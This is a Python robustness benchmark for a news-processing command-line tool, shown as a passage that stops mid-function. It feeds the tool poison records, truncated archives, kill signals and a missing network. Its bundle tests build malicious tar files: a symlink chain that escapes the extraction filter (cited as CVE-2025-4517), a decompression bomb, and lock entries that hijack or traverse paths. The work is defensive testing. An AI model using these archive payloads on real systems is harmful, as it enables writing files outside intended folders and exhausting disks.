"""Robustness: every hostile input, fault and bundle of issue 13 run through the CLI, one row per case.

    python -m bench.robustness             # every case at full size (about 5 minutes on 2 idle cores)
    python -m bench.robustness --quick     # the same cases with smaller inputs
    python -m bench.robustness --only warc,zst --keep   # cases whose name contains a word; keep the folder

Each case builds its input in a temporary folder, runs ``python -m pipeline``
as a subprocess in a new session (killed with its workers at ``--timeout``),
and is judged by what a user who trusts the tool with a ten-million-article
dump expects: every input record accounted for exactly once (an output record
or an ``errors.jsonl`` line), the exit code the README documents, no
traceback on stderr, nothing written outside the output and the model store,
no worker left behind. Cases whose fix lives elsewhere (locks, signals,
worker deaths, a full disk, bundles, an unreachable network, Ray) are built
and judged the same way; a case that cannot run here (no Ray, no mount) is
shown as ``skip`` and left out of N.

A row: case, records in, records out + error lines, exit code, seconds,
pass/fail, and what was wrong. "Records lost" counts the input records of
intact inputs that are neither written nor in ``errors.jsonl``; a truncated
or corrupt input is judged by its error line instead (its cut part is gone).
The last line reads ``robustness: P of N cases pass; records lost: L``.
"""

from __future__ import annotations

import argparse
import gzip
import hashlib
import io
import json
import os
import random
import re
import shutil
import signal
import subprocess
import sys
import tarfile
import tempfile
import time
from collections.abc import Callable, Iterable
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
TRACEBACK = "Traceback (most recent call last)"

#: Environment of every run: offline, no usage statistics, unbuffered output.
BASE_ENV = {**os.environ, "HF_HUB_OFFLINE": "1", "RAY_USAGE_STATS_ENABLED": "0", "PYTHONUNBUFFERED": "1"}

OPENINGS = (
    "De gemeente Utrecht investeert dit jaar in nieuwe fietspaden naar het centraal station.",
    "In Leeuwarden opent volgend voorjaar een zwembad met een wedstrijdbad en een peuterbad.",
    "De politie in Tilburg zoekt getuigen van een inbraak bij een juwelier aan de Heuvel.",
    "Schiphol verwacht deze zomer veel drukte en vraagt reizigers om op tijd te komen.",
    "Boeren in Drenthe protesteren in Assen tegen nieuwe regels voor mest en water.",
    "Het waterschap versterkt de dijk langs de IJssel bij Zutphen over vier kilometer.",
)
BODY = (
    "Volgens de wethouder is het plan al jaren in voorbereiding. Bewoners konden in het voorjaar reageren "
    "op een eerste ontwerp. De provincie betaalt een deel van de kosten, de rest komt uit de begroting."
)
DUTCH = "Café De Zwaan in Utrecht: één coöperatie uit België is geïnteresseerd in de reünie."
DUTCH_WORDS = ("Café", "één", "coöperatie", "België", "geïnteresseerd", "reünie")


@dataclass(frozen=True)
class Sizes:
    """How large the generated inputs are; ``--quick`` scales them down, never the kinds of case."""

    quick: bool

    @property
    def articles(self) -> int:
        return 120 if self.quick else 400

    @property
    def big_record_chars(self) -> int:
        return 6_000_000 if self.quick else 50_000_000

    @property
    def words(self) -> int:
        return 50_000 if self.quick else 200_000

    @property
    def random_bytes(self) -> int:
        return 1_000_000 if self.quick else 5_000_000

    @property
    def bomb_bytes(self) -> int:
        return (256 if self.quick else 1024) << 20


@dataclass
class Outcome:
    """One row of the table."""

    name: str
    records_in: int | None = None
    records_out: int | None = None
    error_lines: int | None = None
    exit_code: int | str | None = None
    seconds: float = 0.0
    passed: bool = False
    note: str = ""
    lost: int = 0
    skipped: bool = False


@dataclass
class Run:
    """A finished CLI run: exit code (``timeout`` when killed at the limit), output, seconds."""

    rc: int | str
    stdout: str
    stderr: str
    seconds: float

    @property
    def traceback(self) -> bool:
        return TRACEBACK in self.stderr or TRACEBACK in self.stdout

    def last_line(self) -> str:
        lines = [line for line in self.stderr.splitlines() if line.strip()]
        return lines[-1][:120] if lines else ""


@dataclass
class Context:
    """What every case gets: its own folder, the sizes and the time limit of one run."""

    work: Path
    sizes: Sizes
    timeout: float
    started: list[subprocess.Popen[bytes]] = field(default_factory=list)

    def read(self, name: str) -> str:
        return (self.work / name).read_text("utf-8", errors="replace")


# ---------------------------------------------------------------------------------------------- running the CLI


def start(
    ctx: Context, args: list[str], env: dict[str, str] | None = None, tag: str = "run", stdin: int | None = None
) -> subprocess.Popen:
    """``python -m pipeline ARGS`` in a new session, its output to files (no pipe to fill up)."""
    stdout = (ctx.work / f"{tag}.stdout").open("wb")
    stderr = (ctx.work / f"{tag}.stderr").open("wb")
    process = subprocess.Popen(
        [sys.executable, "-m", "pipeline", *args],
        cwd=ROOT,
        env=env or BASE_ENV,
        stdin=stdin,
        stdout=stdout,
        stderr=stderr,
        start_new_session=True,
    )
    process.tag = tag  # type: ignore[attr-defined]
    process.began = time.perf_counter()  # type: ignore[attr-defined]
    ctx.started.append(process)
    return process


def finish(ctx: Context, process: subprocess.Popen, timeout: float | None = None) -> Run:
    """Wait for a started run; at the limit kill its whole session (workers too)."""
    try:
        rc: int | str = process.wait(timeout=timeout or ctx.timeout)
    except subprocess.TimeoutExpired:
        kill_session(process.pid)
        process.wait()
        rc = "timeout"
    tag = process.tag  # type: ignore[attr-defined]
    seconds = time.perf_counter() - process.began  # type: ignore[attr-defined]
    return Run(rc, ctx.read(f"{tag}.stdout"), ctx.read(f"{tag}.stderr"), seconds)


def cli(ctx: Context, args: list[str], env: dict[str, str] | None = None, tag: str = "run") -> Run:
    return finish(ctx, start(ctx, args, env, tag))


def python(ctx: Context, code: str, *args: str, tag: str = "python") -> Run:
    """A short Python program against the library, for what the CLI cannot show (notebook HTML, ``Pipeline.run``)."""
    out = (ctx.work / f"{tag}.stdout").open("wb")
    err = (ctx.work / f"{tag}.stderr").open("wb")
    began = time.perf_counter()
    try:
        rc: int | str = subprocess.run(
            [sys.executable, "-c", code, *args],
            cwd=ROOT,
            env=BASE_ENV,
            stdout=out,
            stderr=err,
            timeout=ctx.timeout,
            check=False,
        ).returncode
    except subprocess.TimeoutExpired:
        rc = "timeout"
    return Run(rc, ctx.read(f"{tag}.stdout"), ctx.read(f"{tag}.stderr"), time.perf_counter() - began)


def kill_session(pid: int) -> None:
    try:
        os.killpg(pid, signal.SIGKILL)
    except (ProcessLookupError, PermissionError):
        pass


def run_args(inputs: Iterable[Path | str], output: Path | str, *extra: str) -> list[str]:
    return ["run", *map(str, inputs), "-o", str(output), "--config", "offline", "-q", *extra]


# ---------------------------------------------------------------------------------------------- processes


def alive(pid: int) -> bool:
    """Whether a process exists and is not a zombie."""
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (FileNotFoundError, IndexError, ProcessLookupError):
        return False
    return state not in ("Z", "X")


def workers_of(pid: int) -> list[int]:
    """The forked workers of a run: its children with its own command line."""
    try:
        command = Path(f"/proc/{pid}/cmdline").read_bytes()
    except FileNotFoundError:
        return []
    children = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            parent = int((entry / "stat").read_text().rsplit(")", 1)[1].split()[1])
            same = (entry / "cmdline").read_bytes() == command
        except (FileNotFoundError, ProcessLookupError, IndexError, ValueError):
            continue
        if parent == pid and same:
            children.append(int(entry.name))
    return children


def wait_until(
    predicate: Callable[[], bool], timeout: float, until_exit: subprocess.Popen | None = None, step: float = 0.1
) -> bool:
    """Whether ``predicate`` came true within ``timeout`` seconds; the wait ends early if ``until_exit`` exits."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return True
        if until_exit is not None and until_exit.poll() is not None:
            break
        time.sleep(step)
    return predicate()


def complete_shards(folder: Path) -> int:
    return len(list(folder.glob("part-*.jsonl")))


# ---------------------------------------------------------------------------------------------- inputs


def article(index: int, prefix: str = "a") -> dict[str, str]:
    return {"id": f"{prefix}{index}", "text": f"{OPENINGS[index % len(OPENINGS)]} Bericht nummer {index}. {BODY}"}


def articles(count: int, prefix: str = "a") -> list[dict[str, str]]:
    return [article(index, prefix) for index in range(count)]


def write_jsonl(path: Path, rows: Iterable[dict[str, Any] | str]) -> Path:
    with path.open("w", encoding="utf-8", errors="surrogatepass") as stream:
        for row in rows:
            stream.write((row if isinstance(row, str) else json.dumps(row, ensure_ascii=False)) + "\n")
    return path


def jsonl_bytes(rows: Iterable[dict[str, Any]]) -> bytes:
    return "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows).encode("utf-8")


def article_page(title: str, extra_head: str = "", extra_attribute: str = "") -> str:
    paragraphs = "".join(f"<p>{opening} {BODY}</p>" for opening in OPENINGS[:3])
    return (
        f"<html><head><title>{title}</title>{extra_head}</head><body>"
        f'<nav><a href="/">Home</a></nav><article {extra_attribute}><h1>{title}</h1>{paragraphs}</article>'
        "<footer>Copyright Dagblad</footer></body></html>"
    )


def write_warc(path: Path, pages: int, gzip_records: bool) -> int:
    """A crawl of article pages as warcio writes it; returns the file's size."""
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    with path.open("wb") as stream:
        writer = WARCWriter(stream, gzip=gzip_records)
        for index in range(pages):
            headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html; charset=utf-8")], protocol="HTTP/1.1")
            body = article_page(f"Nieuws {index} uit de regio").encode("utf-8")
            url = f"https://krant.example/{index}"
            record = writer.create_warc_record(url, "response", payload=io.BytesIO(body), http_headers=headers)
            writer.write_record(record)
    return path.stat().st_size


# ---------------------------------------------------------------------------------------------- judging


def read_output(output: Path) -> tuple[list[dict[str, Any]], int]:
    """The records of a file or a shard folder, and how many lines are not valid JSON."""
    if output.is_dir():
        files = sorted(output.glob("part-*.jsonl"))
    else:
        files = [output] if output.exists() else []
    records, corrupt = [], 0
    for path in files:
        for line in path.read_text("utf-8", errors="replace").splitlines():
            try:
                records.append(json.loads(line))
            except json.JSONDecodeError:
                corrupt += 1
    return records, corrupt


def read_errors(output: Path) -> list[dict[str, Any]]:
    path = output / "errors.jsonl" if output.is_dir() else output.with_name(output.name + ".errors.jsonl")
    if not path.exists():
        return []
    return [json.loads(line) for line in path.read_text("utf-8").splitlines() if line.strip()]


def judge_records(
    name: str,
    records_in: int,
    run: Run,
    output: Path,
    exit_codes: Iterable[int],
    check: Callable[[list[dict[str, Any]], list[dict[str, Any]], Run], list[str]] | None = None,
) -> Outcome:
    """Every input record written or logged exactly once, the exit code, no traceback, then ``check``."""
    records, corrupt = read_output(output)
    errors = read_errors(output)
    problems = problems_of(run, exit_codes)
    if corrupt:
        problems.append(f"{corrupt} corrupt output lines")
    accounted = len(records) + len(errors)
    if accounted != records_in:
        problems.append(f"{accounted} of {records_in} accounted")
    ids = [record["id"] for record in records]
    if len(set(ids)) != len(ids):
        problems.append(f"{len(ids) - len(set(ids))} ids written twice")
    if check is not None:
        problems.extend(check(records, errors, run))
    return Outcome(
        name,
        records_in,
        len(records),
        len(errors),
        run.rc,
        run.seconds,
        not problems,
        "; ".join(problems),
        max(0, records_in - accounted),
    )


def problems_of(run: Run, exit_codes: Iterable[int]) -> list[str]:
    problems = []
    codes = sorted(exit_codes)
    if run.rc == "timeout":
        problems.append("timed out")
    elif run.rc not in codes:
        problems.append(f"exit {run.rc}, expected {'/'.join(map(str, codes))} ({run.last_line()})")
    if run.traceback:
        problems.append("traceback on stderr")
    return problems


def judge_cut(name: str, run: Run, output: Path, path: Path, records_in: int, min_records: int = 0) -> Outcome:
    """A truncated or corrupt input: the records before the break, then an error line naming file and offset."""
    records, corrupt = read_output(output)
    errors = read_errors(output)
    problems = problems_of(run, [1])
    if corrupt:
        problems.append(f"{corrupt} corrupt output lines")
    if len(records) < min_records:
        problems.append(f"only {len(records)} records before the break")
    named = [e for e in errors if str(e.get("location", "")).startswith(str(path))]
    if not named:
        problems.append("no error line names the file")
    elif not any(re.search(r"[:@#]\d+|byte \d", f"{e['location']} {e['reason']}") for e in named):
        problems.append("the error line names no offset")
    return Outcome(name, records_in, len(records), len(errors), run.rc, run.seconds, not problems, "; ".join(problems))


def judge_plain(name: str, run: Run, exit_codes: Iterable[int], problems: list[str]) -> Outcome:
    """A case without records (bundles, locks, signals): its exit code, no traceback, and its own checks."""
    problems = problems_of(run, exit_codes) + problems
    return Outcome(name, None, None, None, run.rc, run.seconds, not problems, "; ".join(problems))


# ---------------------------------------------------------------------------------------------- 2: poison records


def poison_case(name: str, poison: str) -> Callable[[Context], Outcome]:
    def case(ctx: Context) -> Outcome:
        dump = write_jsonl(ctx.work / "dump.jsonl", [*articles(5), poison, *articles(5, "b")])
        out = ctx.work / "out.jsonl"
        return judge_records(name, 11, cli(ctx, run_args([dump], out)), out, [0, 1])

    return case


POISONS = {
    "poison-lone-surrogate": '{"id": "s", "text": "Een half teken \\ud800 in de tekst over Utrecht."}',
    "poison-5000-digit-id": '{"id": ' + "9" * 5000 + ', "text": "Een id van vijfduizend cijfers in Utrecht."}',
    "poison-deep-nesting": "[" * 100_000,
}


def case_poison_resume(ctx: Context) -> Outcome:
    """All three poisons into a shard folder, then ``--resume``: neither run may die on them."""
    dump = write_jsonl(ctx.work / "dump.jsonl", [*articles(30), *POISONS.values(), *articles(30, "b")])
    out = ctx.work / "out"
    first = cli(ctx, run_args([dump], f"{out}/", "--shard-size", "10"), tag="first")
    second = cli(ctx, run_args([dump], f"{out}/", "--shard-size", "10", "--resume"), tag="second")
    outcome = judge_records("poison-then-resume", 63, second, out, [0, 1])
    first_problems = problems_of(first, [0, 1])
    if first_problems:
        outcome.passed, outcome.note = False, "; ".join(["first run: " + p for p in first_problems] + [outcome.note])
    return outcome


# ---------------------------------------------------------------------------------------------- 3: punctuation runs


def case_punctuation_runs(ctx: Context) -> Outcome:
    runs = [
        {"id": f"run-{index}", "text": f"Utrecht bouwt.{mark * 16_000} Einde."} for index, mark in enumerate("'‹&[…?")
    ]
    dump = write_jsonl(ctx.work / "dump.jsonl", [*articles(3), *runs])
    out = ctx.work / "out.jsonl"
    return judge_records("punctuation-runs-16k", 9, cli(ctx, run_args([dump], out)), out, [0, 1])


def case_angle_run(ctx: Context) -> Outcome:
    dump = write_jsonl(ctx.work / "dump.jsonl", [article(0), {"id": "lt", "text": "<" * 100_000}, article(1)])
    out = ctx.work / "out.jsonl"
    return judge_records("angle-run-100k", 3, cli(ctx, run_args([dump], out)), out, [0, 1])


# ---------------------------------------------------------------------------------------------- 4: two runs, one output


def two_runs(ctx: Context, name: str, sharded: bool) -> Outcome:
    """Run A reads its articles from stdin and holds the output while it waits for them; run B starts on
    the same output once A's pid is in the lock file, so the two overlap however long a start takes."""
    count = ctx.sizes.articles
    lines = [json.dumps(record, ensure_ascii=False) + "\n" for record in articles(count, "a")]
    second = write_jsonl(ctx.work / "b.jsonl", articles(count, "b"))
    out = ctx.work / ("out" if sharded else "out.jsonl")
    target = f"{out}/" if sharded else str(out)
    lock = out / ".nlnews.lock" if sharded else out.with_name(out.name + ".lock")
    extra = ["--shard-size", "20"] if sharded else []
    run_a = start(ctx, run_args(["-"], target, "--workers", "1", *extra), tag="a", stdin=subprocess.PIPE)
    assert run_a.stdin is not None
    run_a.stdin.write(lines[0].encode())
    run_a.stdin.flush()
    deadline = time.monotonic() + ctx.timeout
    while run_a.poll() is None and time.monotonic() < deadline:
        if lock.is_file() and lock.read_text(encoding="ascii", errors="replace").strip() == str(run_a.pid):
            break
        time.sleep(0.1)
    b = finish(ctx, start(ctx, run_args([second], target, "--workers", "1", *extra), tag="b"))
    with suppress(BrokenPipeError):
        run_a.stdin.write("".join(lines[1:]).encode())
        run_a.stdin.close()
    a = finish(ctx, run_a)
    problems = []
    if (a.rc, b.rc) != (0, 2):
        problems.append(f"exits {a.rc} (first) and {b.rc} (second), expected 0 and 2")
    if b.rc == 2 and f"pid {run_a.pid}" not in b.stderr:
        problems.append("the refused run does not name the holder's pid")
    if a.traceback or b.traceback:
        problems.append("traceback on stderr")
    records, corrupt = read_output(out)
    prefixes = {record["id"][0] for record in records}
    if corrupt or len(records) != count or prefixes != {"a"}:
        problems.append(f"output holds {len(records)} records of runs {sorted(prefixes)} and {corrupt} corrupt lines")
    rc = f"{a.rc}/{b.rc}"
    seconds = max(a.seconds, b.seconds)
    return Outcome(name, 2 * count, len(records), len(read_errors(out)), rc, seconds, not problems, "; ".join(problems))


# ---------------------------------------------------------------------------------------------- 5: truncated input


def case_zst_cut(ctx: Context) -> Outcome:
    """Half a .zst dump. Zstandard decodes whole blocks (128 KiB), so each record carries an unmapped field of
    random letters (as dumps carry raw HTML) and the dump spans several blocks."""
    import zstandard

    letters = random.Random(3)
    rows = [
        {**row, "raw": "".join(letters.choices("abcdefghijklmnopqrstuvwxyz ", k=4000))}
        for row in articles(ctx.sizes.articles)
    ]
    whole = zstandard.ZstdCompressor().compress(jsonl_bytes(rows))
    path = ctx.work / "dump.jsonl.zst"
    path.write_bytes(whole[: len(whole) // 2])
    out = ctx.work / "out.jsonl"
    return judge_cut("zst-cut-in-half", cli(ctx, run_args([path], out)), out, path, ctx.sizes.articles, 1)


def case_gz_cut(ctx: Context) -> Outcome:
    whole = gzip.compress(jsonl_bytes(articles(ctx.sizes.articles)))
    path = ctx.work / "dump.jsonl.gz"
    path.write_bytes(whole[: len(whole) * 2 // 3])
    out = ctx.work / "out.jsonl"
    return judge_cut("gz-truncated", cli(ctx, run_args([path], out)), out, path, ctx.sizes.articles, 1)


def case_warc_cut(ctx: Context) -> Outcome:
    path = ctx.work / "crawl.warc"
    size = write_warc(path, 5, gzip_records=False)
    path.write_bytes(path.read_bytes()[: size - 300])
    out = ctx.work / "out.jsonl"
    outcome = judge_cut("warc-cut-300-bytes", cli(ctx, run_args([path], out)), out, path, 5, 4)
    if (outcome.records_out or 0) > 4:
        outcome.passed, outcome.note = False, "the cut record was written as complete; " + outcome.note
    return outcome


def case_warc_valid(ctx: Context) -> Outcome:
    path = ctx.work / "crawl.warc"
    write_warc(path, 5, gzip_records=False)
    out = ctx.work / "out.jsonl"

    def all_articles(records: list[dict[str, Any]], errors: list[dict[str, Any]], run: Run) -> list[str]:
        return [] if not errors else [f"spurious error: {errors[0]['reason'][:80]}"]

    return judge_records("warc-valid-uncompressed", 5, cli(ctx, run_args([path], out)), out, [0], all_articles)


def case_warc_garbage(ctx: Context) -> Outcome:
    path = ctx.work / "garbage.warc"
    path.write_bytes(b"WARC/1.0\r\n" + random.Random(0).randbytes(20_000))
    out = ctx.work / "out.jsonl"
    return judge_cut("warc-garbage", cli(ctx, run_args([path], out)), out, path, 0)


# ---------------------------------------------------------------------------------------------- 6: processes and signals


def case_kill_parent(ctx: Context) -> Outcome:
    """kill -9 of the main process: its workers must be gone within 5 s."""
    dump = write_jsonl(ctx.work / "dump.jsonl", articles(ctx.sizes.articles * 3))
    process = start(ctx, run_args([dump], ctx.work / "out.jsonl", "--workers", "2"))
    if not wait_until(lambda: len(workers_of(process.pid)) >= 2, ctx.timeout, until_exit=process):
        run = finish(ctx, process)
        return judge_plain("kill9-parent", run, [], ["no workers started"])
    workers = workers_of(process.pid)
    time.sleep(0.5)
    os.kill(process.pid, signal.SIGKILL)
    process.wait()
    gone = wait_until(lambda: not any(alive(pid) for pid in workers), 5.0)
    survivors = [pid for pid in workers if alive(pid)]
    for pid in survivors:
        os.kill(pid, signal.SIGKILL)
    run = finish(ctx, process)
    problems = [] if gone else [f"{len(survivors)} of {len(workers)} workers alive 5 s after the parent died"]
    return judge_plain("kill9-parent", run, [-signal.SIGKILL], problems)


def case_kill_worker(ctx: Context) -> Outcome:
    """kill -9 of one worker: the job goes on, every record accounted for."""
    count = ctx.sizes.articles * 3
    dump = write_jsonl(ctx.work / "dump.jsonl", articles(count))
    out = ctx.work / "out.jsonl"
    process = start(ctx, run_args([dump], out, "--workers", "2"))
    if wait_until(lambda: len(workers_of(process.pid)) >= 2, ctx.timeout, until_exit=process):
        time.sleep(0.5)
        workers = workers_of(process.pid)
        if workers:
            os.kill(workers[0], signal.SIGKILL)
    return judge_records("kill9-one-worker", count, finish(ctx, process), out, [0, 1])


def signal_case(name: str, signum: int, expected: int, group: bool) -> Callable[[Context], Outcome]:
    """SIGINT/SIGTERM mid-run: a clean stop with its exit code, no orphans, then ``--resume`` finishes exactly.

    Ctrl-C reaches the whole foreground process group (``group``); ``kill PID`` only the main process.
    """

    def case(ctx: Context) -> Outcome:
        count = ctx.sizes.articles * 2
        dump = write_jsonl(ctx.work / "dump.jsonl", articles(count))
        out = ctx.work / "out"
        args = run_args([dump], f"{out}/", "--workers", "2", "--shard-size", "20")
        process = start(ctx, args, tag="first")
        if not wait_until(lambda: out.is_dir() and complete_shards(out) >= 1, ctx.timeout, until_exit=process):
            return judge_plain(name, finish(ctx, process), [expected], ["no shard completed before the limit"])
        workers = workers_of(process.pid)
        if group:
            os.killpg(process.pid, signum)
        else:
            os.kill(process.pid, signum)
        first = finish(ctx, process, timeout=30)
        problems = problems_of(first, [expected])
        if len([line for line in first.stderr.splitlines() if line.strip()]) > 3:
            problems.append("more than a few lines on stderr")
        if not wait_until(lambda: not any(alive(pid) for pid in workers), 5.0):
            problems.append("workers alive 5 s after the stop")
        kill_session(process.pid)
        resumed = cli(ctx, [*args, "--resume"], tag="resume")
        outcome = judge_records(name, count, resumed, out, [0])
        outcome.exit_code = f"{first.rc}/{resumed.rc}"
        if problems:
            outcome.passed = False
            outcome.note = "; ".join(["stop: " + p for p in problems] + ([outcome.note] if outcome.note else []))
        return outcome

    return case


def case_kill_three_points(ctx: Context) -> Outcome:
    """kill -9 of the whole run after 1, 3 and 5 shards, resuming each time: every record exactly once."""
    count = ctx.sizes.articles * 2
    dump = write_jsonl(ctx.work / "dump.jsonl", articles(count))
    out = ctx.work / "out"
    args = run_args([dump], f"{out}/", "--workers", "2", "--shard-size", "10")
    for point, shards in enumerate((1, 3, 5)):
        process = start(ctx, [*args, "--resume"] if point else args, tag=f"cut{point}")
        wait_until(lambda shards=shards: out.is_dir() and complete_shards(out) >= shards, ctx.timeout, process)
        kill_session(process.pid)
        finish(ctx, process)
    final = cli(ctx, [*args, "--resume"], tag="final")
    return judge_records("kill9-three-points-resume", count, final, out, [0])


# ---------------------------------------------------------------------------------------------- 7: disk full, unwritable


def case_disk_full(ctx: Context) -> Outcome:
    mount = ctx.work / "full"
    mount.mkdir()
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(mount)], capture_output=True, check=False
    )
    if mounted.returncode != 0:
        return Outcome("disk-full", skipped=True, note="cannot mount a small tmpfs here (needs root)")
    try:
        rows = [{**row, "text": row["text"] + (" " + BODY) * 20} for row in articles(ctx.sizes.articles)]
        dump = write_jsonl(ctx.work / "dump.jsonl", rows)
        run = cli(ctx, run_args([dump], mount / "out.jsonl"))
        left = [path.name for path in mount.iterdir() if path.name.endswith(".partial")]
        problems = [f"left {left} on the full disk"] if left else []
        return judge_plain("disk-full", run, [2], problems)
    finally:
        subprocess.run(["umount", "-l", str(mount)], capture_output=True, check=False)


def case_unwritable(ctx: Context) -> Outcome:
    dump = write_jsonl(ctx.work / "dump.jsonl", articles(3))
    return judge_plain("output-in-proc", cli(ctx, run_args([dump], "/proc/nlnews-robustness.jsonl")), [2], [])


# ---------------------------------------------------------------------------------------------- 8: no network


def unreachable_env(ctx: Context) -> dict[str, str]:
    """No offline switch, every proxy at a closed local port, an empty Hugging Face home."""
    env = {key: value for key, value in BASE_ENV.items() if key not in ("HF_HUB_OFFLINE", "TRANSFORMERS_OFFLINE")}
    closed = "http://127.0.0.1:9"
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"):
        env[name] = closed
    env["NO_PROXY"] = env["no_proxy"] = ""
    env["HF_HOME"] = str(ctx.work / "hf-home")
    return env


def default_models() -> list[str]:
    import yaml

    config = yaml.safe_load((ROOT / "configs" / "default.yaml").read_text("utf-8"))
    return [section["model"] for section in config.values() if isinstance(section, dict) and section.get("model")]


def case_no_network_run(ctx: Context) -> Outcome:
    dump = write_jsonl(ctx.work / "dump.jsonl", articles(3))
    out = ctx.work / "out.jsonl"
    store = ctx.work / "store"
    args = ["run", str(dump), "-o", str(out), "--config", "default", "-q", "--set", f"models_dir={store}"]
    return judge_records("no-network-default-run", 3, cli(ctx, args, unreachable_env(ctx)), out, [0])


def case_no_network_strict(ctx: Context) -> Outcome:
    dump = write_jsonl(ctx.work / "dump.jsonl", articles(3))
    store = ctx.work / "store"
    args = ["run", str(dump), "-o", str(ctx.work / "out.jsonl"), "--config", "default", "--strict"]
    run = cli(ctx, [*args, "-q", "--set", f"models_dir={store}"], unreachable_env(ctx))
    unnamed = [model for model in default_models() if model not in run.stderr]
    return judge_plain("no-network-strict", run, [3], [f"does not name {unnamed}"] if unnamed else [])


def case_no_network_pull(ctx: Context) -> Outcome:
    store = ctx.work / "store"
    run = cli(ctx, ["models", "pull", "--config", "default", "--models-dir", str(store)], unreachable_env(ctx))
    unnamed = [model for model in default_models() if model not in run.stderr + run.stdout]
    problems = [f"does not name {unnamed}"] if unnamed else []
    if run.rc == 0:
        problems.append("exit 0 although nothing could be pulled")
    return judge_plain("no-network-models-pull", run, [1, 2, 3], problems)


# ---------------------------------------------------------------------------------------------- 1: model bundles


def lock_entry(path: str, files: dict[str, bytes | tuple[str, int]]) -> dict[str, Any]:
    """A lock entry as ``models pull`` writes it; a file is its bytes or (sha256, size)."""
    hashed = {
        name: {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}
        if isinstance(data, bytes)
        else {"sha256": data[0], "size": data[1]}
        for name, data in files.items()
    }
    return {
        "kind": "transformers",
        "stage": "translate",
        "requested": None,
        "revision": "0" * 40,
        "licence": "cc-by-4.0",
        "path": path,
        "files": hashed,
    }


#: A refused bundle: any failing exit with its one-line reason (the README fixes no code for it).
REFUSED = (1, 2, 3)


def lock_json(entries: dict[str, dict[str, Any]]) -> bytes:
    """``lock.json`` as ``pipeline.models.write_lock`` writes it."""
    return json.dumps({"version": 1, "models": entries}).encode("utf-8")


def add_bytes(tar: tarfile.TarFile, name: str, data: bytes) -> None:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    tar.addfile(info, io.BytesIO(data))


def add_link(tar: tarfile.TarFile, name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> None:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = target
    tar.addfile(info)


def import_bundle(ctx: Context, bundle: Path, store: Path) -> Run:
    return cli(ctx, ["models", "import", str(bundle), "--models-dir", str(store)])


def case_bundle_path_max(ctx: Context) -> Outcome:
    """A symlink chain longer than PATH_MAX that ``tarfile``'s data filter cannot resolve (CVE-2025-4517)."""
    outside, store = ctx.work / "outside", ctx.work / "store"
    outside.mkdir()
    bundle = ctx.work / "bundle.tar"
    long_name, steps, path = "d" * 247, "abcdefghijklmnop", ""
    with tarfile.open(bundle, "w") as tar:
        add_bytes(tar, "lock.json", lock_json({"x/model": lock_entry("x--model", {})}))
        for step in steps:
            directory = tarfile.TarInfo(os.path.join(path, long_name))
            directory.type = tarfile.DIRTYPE
            tar.addfile(directory)
            add_link(tar, os.path.join(path, step), long_name)
            path = os.path.join(path, long_name)
        chain = os.path.join("/".join(steps), "l" * 254)
        add_link(tar, chain, "../" * len(steps))
        add_link(tar, "escape", chain + "/../../outside")
        add_bytes(tar, "escape/planted.txt", b"written outside the model store\n")
    run = import_bundle(ctx, bundle, store)
    problems = ["a file was written outside the store"] if (outside / "planted.txt").exists() else []
    return judge_plain("bundle-pathmax-symlinks", run, REFUSED, problems)


class _Zeros(io.RawIOBase):
    """``size`` zero bytes, read without holding them."""

    def __init__(self, size: int) -> None:
        self.left = size

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        count = min(len(buffer), self.left)
        buffer[:count] = bytes(count)
        self.left -= count
        return count


def case_bundle_bomb(ctx: Context) -> Outcome:
    """A small .tar.gz that unpacks to a gibibyte, with a lock that matches it."""
    size = ctx.sizes.bomb_bytes
    digest = hashlib.sha256()
    zeros = _Zeros(size)
    while chunk := zeros.read(1 << 20):
        digest.update(chunk)
    bundle, store = ctx.work / "bomb.tar.gz", ctx.work / "store"
    with tarfile.open(bundle, "w:gz", compresslevel=1) as tar:
        lock = {"x/bomb": lock_entry("x--bomb", {"weights.bin": (digest.hexdigest(), size)})}
        add_bytes(tar, "lock.json", lock_json(lock))
        info = tarfile.TarInfo("x--bomb/weights.bin")
        info.size = size
        tar.addfile(info, io.BufferedReader(_Zeros(size)))
    run = import_bundle(ctx, bundle, store)
    problems = (
        [] if not (store / "x--bomb").exists() else [f"{size >> 20} MiB unpacked from {bundle.stat().st_size:,} bytes"]
    )
    return judge_plain("bundle-decompression-bomb", run, REFUSED, problems)


def case_bundle_lock_hijack(ctx: Context) -> Outcome:
    """A bundle named ``some/harmless-name`` whose lock points at another model's folder."""
    store = ctx.work / "store"
    victim = store / "Helsinki-NLP--opus-mt-nl-en"
    victim.mkdir(parents=True)
    (victim / "config.json").write_bytes(b'{"original": true}')
    lock = {"Helsinki-NLP/opus-mt-nl-en": lock_entry(victim.name, {"config.json": b'{"original": true}'})}
    (store / "lock.json").write_bytes(lock_json(lock))
    bundle = ctx.work / "bundle.tar"
    with tarfile.open(bundle, "w") as tar:
        entry = lock_entry(victim.name, {"config.json": b'{"replaced": true}'})
        add_bytes(tar, "lock.json", lock_json({"some/harmless-name": entry}))
        add_bytes(tar, f"{victim.name}/config.json", b'{"replaced": true}')
    run = import_bundle(ctx, bundle, store)
    problems = (
        [] if (victim / "config.json").read_bytes() == b'{"original": true}' else ["another model's files replaced"]
    )
    return judge_plain("bundle-lock-path-hijack", run, REFUSED, problems)


def case_bundle_lock_traversal(ctx: Context) -> Outcome:
    """A lock whose file names climb out of the staging folder, so verification hashes a file outside."""
    outside, store = ctx.work / "outside", ctx.work / "store"
    outside.mkdir()
    (outside / "secret.txt").write_bytes(b"not part of any model\n")
    bundle = ctx.work / "bundle.tar"
    with tarfile.open(bundle, "w") as tar:
        files = {"config.json": b"{}", "../../../outside/secret.txt": b"not part of any model\n"}
